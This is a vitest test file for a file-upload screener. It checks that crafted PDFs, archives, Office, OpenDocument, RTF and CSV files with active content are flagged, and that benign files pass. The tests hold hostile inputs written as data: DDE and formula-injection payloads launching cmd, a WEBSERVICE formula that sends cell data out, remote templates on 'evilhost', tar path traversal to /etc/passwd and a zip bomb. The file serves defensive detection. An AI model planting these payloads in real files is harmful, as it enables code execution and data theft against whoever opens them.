import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { buildTar, buildZip, type Part } from '../testing/build-archive';
import { inspectFile } from './inspect-file';

const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le');
const text = (content: string): Buffer => Buffer.from(content);
const pdf = (body: string): Buffer => Buffer.from(`%PDF-1.7\n${body}\ntrailer<</Root 1 0 R>>\n%%EOF`, 'latin1');
const packedObjects = (pairs: string, objects: string): string => {
  const packed = deflateSync(Buffer.from(`${pairs}${objects}`)).toString('latin1');
  return `9 0 obj<</Type/ObjStm/N 2/First ${pairs.length}/Filter/FlateDecode/Length ${packed.length}>>stream\n${packed}\nendstream endobj`;
};
const compound = (...streams: string[]): Buffer =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), ...streams.map(utf16), Buffer.alloc(64)]);
const macroDocument = compound('_VBA_PROJECT');
const program = Buffer.concat([text('MZ'), Buffer.alloc(600, 1)]);

const override = (part: string, type: string): string => `<Override PartName="${part}" ContentType="${type}"/>`;
const types = (...overrides: string[]): Part => [
  '[Content_Types].xml',
  `<Types><Default Extension="xml" ContentType="application/xml"/>${overrides.join('')}</Types>`,
];
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';
const word = (...more: Part[]): Buffer => buildZip(types(), ['word/document.xml', '<w:document/>'], ...more);
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (attributes: string): Part => ['word/_rels/document.xml.rels', `<Relationships><Relationship Id="a" ${attributes}/></Relationships>`]; // prettier-ignore
const template = (target: string, mode = 'TargetMode="External"'): Buffer =>
  word(relation(`Type="${TYPE}/attachedTemplate" Target="${target}" ${mode}`));
const ddeField = '<w:p><w:instrText> DDEAUTO cmd "/c calc" </w:instrText></w:p>';
const odf = (...more: Part[]): Buffer =>
  buildZip(
    ['mimetype', 'application/vnd.oasis.opendocument.text'],
    ['META-INF/manifest.xml', '<manifest:manifest/>'],
    ...more,
  );

const dangerOf = async (bytes: Buffer, name: string): Promise<string | undefined> =>
  (await inspectFile(bytes, name)).dangerous;

describe('what passed the screening before is refused', () => {
  test.each<[string, Buffer, string]>([
    ['locked with the empty password', pdf('1 0 obj<<>>endobj trailer<</Encrypt 5 0 R>>'), 'pdfEncrypted'],
    ['locked by an escaped name', pdf('1 0 obj<<>>endobj trailer<</Encr#79pt 5 0 R>>'), 'pdfEncrypted'],
    ['a file without its type', pdf('1 0 obj<</Type/Filespec/EF<</F 2 0 R>>>>endobj'), 'pdfActive'],
    ['a list of files', pdf('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj'), 'pdfActive'],
    ['a file in a packed object', pdf(packedObjects('3 0 ', '<</EF<</F 2 0 R>>>>')), 'pdfActive'],
    ['an address opened at once', pdf('1 0 obj<</OpenAction<</S/URI/URI(http://a)>>>>endobj'), 'pdfActive'],
    [
      'the same by reference',
      pdf('1 0 obj<</OpenAction 7 0 R>>endobj 7 0 obj<</S/URI/URI(http://a)>>endobj'),
      'pdfActive',
    ],
    ['the same in a packed object', pdf(`1 0 obj<</OpenAction 7 0 R>>endobj ${packedObjects('6 0 7 2 ', '5 <</S/URI/URI(http://a)>>')}`), 'pdfActive'], // prettier-ignore
    ['the same as the next action', pdf('1 0 obj<</OpenAction<</S/Named/Next 7\n0\nR>>>>endobj 7\n0\nobj<</S/GoToR/F(\\\\\\\\evil\\\\a)>>endobj'), 'pdfActive'], // prettier-ignore
    ['an escaped type', pdf('1 0 obj<</Open#41ction<</S/U#52I/URI(http://a)>>>>endobj'), 'pdfActive'],
    ['a form sent at once', pdf('1 0 obj<</OpenAction<</S/SubmitForm/F(http://a)>>>>endobj'), 'pdfActive'],
    ['another document at the opening of a page', pdf('3 0 obj<</AA<</O 7 0 R>>>>endobj 7 0 obj<</S/GoToR/F(a)>>endobj'), 'pdfActive'], // prettier-ignore
    ['an address behind a word that begins a stream', pdf('2 0 obj(stream)endobj 1 0 obj<</OpenAction<</S/URI/URI(http://a)>>>>endobj 3 0 obj<<>>stream\n\nendstream endobj'), 'pdfActive'], // prettier-ignore
    ['a file behind one', pdf('2 0 obj(stream)endobj 1 0 obj<</Type/Filespec/EF<</F 3 0 R>>>>endobj 3 0 obj<<>>stream\n\nendstream endobj'), 'pdfActive'], // prettier-ignore
    ['a form behind one', pdf('%stream\n1 0 obj<</AcroForm<</XFA[(a) 3 0 R]>>>>endobj 3 0 obj<<>>stream\n\nendstream endobj'), 'pdfActive'], // prettier-ignore
    ['a program', pdf('1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj'), 'pdfActive'],
  ])('PDF: %s', async (_, bytes, danger) => {
    expect(await dangerOf(bytes, 'a.pdf')).toBe(danger);
  });

  test.each([
    'evil.bat.',
    'evil.hta.',
    'evil.bat. .',
    'evil.xll',
    'evil.settingcontent-ms',
    'evil.iso',
    'evil.application',
    'evil.msc',
    'evil.wsc',
    'evil.sct',
    'evil.library-ms',
  ])(
    // prettier-ignore
    'a name that runs: %s, by itself, in a zip, in a tar, compressed',
    async (name) => {
      expect(await dangerOf(text('harmless'), name)).toBe('executable');
      expect(await dangerOf(buildZip([`a/${name}`, 'x']), 'a.zip')).toBe('zipExecutable');
      expect(await dangerOf(buildTar([`a/${name}`, 'x']), 'a.tar')).toBe('zipExecutable');
      expect(await dangerOf(gzipSync('x'), `${name}.gz`)).toBe('zipExecutable');
    },
  );

  test.each<[string, Buffer, string, string]>([
    ['a program in a tar', buildTar(['tool', program]), 'a.tar', 'zipExecutable'],
    ['a compressed program', gzipSync(program), 'a.gz', 'zipExecutable'],
    ['a program in a compressed tar', gzipSync(buildTar(['tool', program])), 'a.tar.gz', 'zipExecutable'],
    ['the same called tgz', gzipSync(buildTar(['tool', program])), 'a.tgz', 'zipExecutable'],
    ['a program in a tar in a zip', buildZip(['a.tar', buildTar(['tool', program])]), 'a.zip', 'zipExecutable'],
    ['a program in a zip in a tar', buildTar(['a.zip', buildZip(['tool', program])]), 'a.tar', 'zipExecutable'],
    ['a tar that climbs out', buildTar(['../../a', 'x']), 'a.tar', 'zipUnsafePath'],
    ['a link in a tar that climbs out', buildTar(['a', '', '2', '/etc/passwd']), 'a.tar', 'zipUnsafePath'],
    ['a tar of 200 MB of zeros, compressed', gzipSync(buildTar(['a', Buffer.alloc(200 << 20)]), { level: 1 }), 'a.tgz', 'zipBomb'], // prettier-ignore
    ['a tar cut short', buildTar(['a', Buffer.alloc(5_000, 65)]).subarray(0, 2_000), 'a.tar', 'zipBroken'],
    ['an old document with macros in a zip', buildZip(['a.doc', macroDocument]), 'a.zip', 'macro'],
    ['a PDF with a script in a zip', buildZip(['a.pdf', pdf('1 0 obj<</S/JavaScript>>endobj')]), 'a.zip', 'pdfActive'],
    ['an RTF that loads an object, in a tar', buildTar(['a.rtf', '{\\rtf1\\objupdate}']), 'a.tar', 'rtfActive'],
    ['a table that starts a program, in a zip', buildZip(['a.csv', "=cmd|'/c calc'!A0"]), 'a.zip', 'dde'],
  ])('archives: %s', async (_, bytes, name, danger) => {
    expect(await dangerOf(bytes, name)).toBe(danger);
  });

  test.each([
    "=1+cmd|' /C calc'!A0",
    "\uff1dcmd|' /C calc'!A0",
    "=(cmd|' /C calc'!A0)",
    "= cmd|' /C calc'!A0",
    "='cmd'|' /C calc'!A0",
    "=SUM(cmd|' /C calc'!A0)",
    '1,2,"=SUM(1,cmd|\' /C calc\'!A0)"',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(cmd|' /C calc'!A0)",
    "=C:\\windows\\system32\\cmd.exe|'/c calc'!A0",
    '=excel|file!R1C1',
    '=DDE("cmd";"/C calc";"!A0")',
    '=1+WEBSERVICE("http://a/"&A1)',
    "<table><td>=cmd|'/C calc'!A0</td></table>",
  ])('cells: %s, as a table and as a text', async (cell) => {
    for (const name of ['a.csv', 'a.txt', 'a.xls'])
      expect(await dangerOf(text(`a\tb\n${cell}\n`), name)).toMatch(/^(?:dde|extensionLies)$/);
    expect(await dangerOf(text(`a\tb\n${cell}\n`), 'a.txt')).toBe('dde');
    expect(await dangerOf(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16(`a\n${cell}\n`)]), 'a.txt')).not.toBe(
      undefined,
    );
  });

  test.each<[string, Buffer, string, string]>([
    ['macros under another name, by relation', word(['word/notes.bin', 'x'], relation(`Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.bin"`)), 'a.docx', 'macro'], // prettier-ignore
    ['macros under another name, by type', buildZip(types(override('/word/notes.bin', 'application/vnd.ms-office.vbaProject')), ['word/document.xml', '<a/>'], ['word/notes.bin', 'x']), 'a.docx', 'macro'], // prettier-ignore
    ['macros under another name, by content', word(['word/notes.bin', macroDocument]), 'a.docx', 'macro'],
    ['DDE in a main part elsewhere', buildZip(types(override('/other/main.xml', WORD)), ['word/x.xml', '<a/>'], ['other/main.xml', ddeField]), 'a.docx', 'dde'], // prettier-ignore
    ['DDE in a part of no known ending', buildZip(types(override('/word/main.dat', WORD)), ['word/x.xml', '<a/>'], ['word/main.dat', ddeField]), 'a.docx', 'dde'], // prettier-ignore
    ['DDE in a footnote', word(['word/deep/footnotes.xml', ddeField]), 'a.docx', 'dde'],
    ['a workbook fed by a program, elsewhere', buildZip(types(override('/xl/s.xml', SHEET)), ['xl/s.xml', '<a/>'], ['links/a.xml', '<ddeLink ddeService="cmd"/>']), 'a.xlsx', 'dde'], // prettier-ignore
    [
      'a document in one text with DDE',
      text(`<?xml version="1.0"?><pkg:package>${ddeField}</pkg:package>`),
      'a.xml',
      'dde',
    ],
    ['a template of a machine by its bare name', template('\\\\evilhost\\share\\a.dotm'), 'a.docx', 'remoteTemplate'],
    ['the same as an address', template('file:///\\\\evilhost\\share\\a.dotm'), 'a.docx', 'remoteTemplate'],
    ['the same in slashes', template('file://evilhost/a.dotm'), 'a.docx', 'remoteTemplate'],
    ['a template elsewhere, its mode escaped', template('http://a/a.dotm', 'TargetMode="Ext&#101;rnal"'), 'a.docx', 'remoteTemplate'], // prettier-ignore
    ['a macro of OpenDocument', odf(['content.xml', '<a/>'], ['Basic/Standard/Module1.xml', '<script:module/>']), 'a.odt', 'macro'], // prettier-ignore
    ['a Python macro of OpenDocument', odf(['content.xml', '<a/>'], ['Scripts/python/a.py', 'x']), 'a.odt', 'macro'],
    ['a macro run at an event', odf(['content.xml', '<office:scripts><script:event-listener/></office:scripts>']), 'a.odt', 'macro'], // prettier-ignore
    ['OpenDocument fed by a program', odf(['content.xml', '<office:dde-source office:dde-application="soffice"/>']), 'a.ods', 'dde'], // prettier-ignore
    ['locked OpenDocument', odf(['META-INF/manifest.xml', '<manifest:encryption-data/>']), 'a.odt', 'officeEncrypted'],
    ['a flat OpenDocument with a macro', text('<?xml version="1.0"?><office:document><script:event-listener/></office:document>'), 'a.fodt', 'macro'], // prettier-ignore
    [
      'an RTF field cut over groups',
      text('{\\rtf1{\\field{\\*\\fldinst{\\b D}{\\i D}{EAUTO cmd}}}}'),
      'a.rtf',
      'rtfActive',
    ],
    [
      'an RTF field in escaped letters',
      text("{\\rtf1{\\field{\\*\\fldinst \\'44\\'44{\\u69?}AUTO cmd}}}"),
      'a.rtf',
      'rtfActive',
    ],
    ['an RTF field spelled by another', text('{\\rtf1{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69}} cmd}}}'), 'a.rtf', 'rtfActive'], // prettier-ignore
    ['an RTF template elsewhere, cut over groups', text('{\\rtf1{\\*\\template {ht}{tp://a/a.dotm}}}'), 'a.rtf', 'rtfActive'], // prettier-ignore
    ['an RTF template of a machine', text('{\\rtf1{\\*\\template \\\\\\\\evilhost\\\\a.dotm}}'), 'a.rtf', 'rtfActive'],
  ])('documents: %s', async (_, bytes, name, danger) => {
    expect(await dangerOf(bytes, name)).toBe(danger);
  });
});

describe('what honest work holds is taken', () => {
  test.each<[string, Buffer, string]>([
    [
      'a table of negative numbers and formulas',
      text('t,y\n-1.5,=A1*2\n+3,"=SUM(A1:A9)"\n-4,=IF(A1>0,"a|b",0)\n'),
      'a.csv',
    ],
    ['a table with bars and exclamation marks', text('-3|4, wow!\n-1,yes|no\n=1,see | here!\n'), 'a.csv'],
    [
      'a table of functions that only calculate',
      text('=HYPERLINK("https://a")\n=VLOOKUP(A1,B:B,1)\n=CALLS(1)\n'),
      'a.csv',
    ],
    [
      'a list with marks in a text',
      text('- call(sample) twice\n- yes|no!\n@register("x")\n+ exec(a)\nx = a|b!=c\n'),
      'a.md',
    ],
    ['a program in Python as data', text('@app.call(1)\ndef f(a):\n    x = a|b\n    return x != 1\n'), 'a.py'],
    ['a document with links and places', pdf('1 0 obj<</OpenAction[3 0 R/Fit]>>endobj 3 0 obj<</Annots[<</Subtype/Link/A<</S/URI/URI(http://a)>>>>]>>endobj'), 'a.pdf'], // prettier-ignore
    ['one that opens at a page', pdf('1 0 obj<</OpenAction 4 0 R>>endobj 4 0 obj<</S/GoTo/D[3 0 R/XYZ 0 0 0]>>endobj 5 0 obj<</S/URI/URI(http://a)>>endobj'), 'a.pdf'], // prettier-ignore
    ['one that says its metadata is plain', pdf('1 0 obj<</EncryptMetadata false/Encryption(no)>>endobj'), 'a.pdf'],
    ['a tar of data', buildTar(['a/', '', '5'], ['a/run.csv', '1,2\n'], ['a/run.com', '# opt\n']), 'a.tar'],
    ['a compressed list', gzipSync('1,-2\n'.repeat(100_000)), 'a.csv.gz'],
    ['a compressed tar of data', gzipSync(buildTar(['a/run.py', '#!/usr/bin/env python3\n'])), 'a.tgz'],
    ['a document made from a template of its author', template('file:///C:\\Users\\x\\Report.dotx'), 'a.docx'],
    ['one in a folder of its own', template('Report.dotx'), 'a.docx'],
    ['a document with a page number', word(['word/footer1.xml', '<w:instrText> PAGE </w:instrText><w:t>DDE</w:t>']), 'a.docx'], // prettier-ignore
    ['OpenDocument with an empty library', odf(['content.xml', '<office:scripts/>'], ['Basic/Standard/script-lb.xml', '<x/>']), 'a.odt'], // prettier-ignore
    ['an RTF with a link', text('{\\rtf1{\\*\\template C:\\\\a.dotm}{\\field{\\*\\fldinst HYPERLINK "https://a"}}DDE}'), 'a.rtf'], // prettier-ignore
  ])('%s', async (_, bytes, name) => {
    expect(await inspectFile(bytes, name)).not.toHaveProperty('dangerous');
  });
});
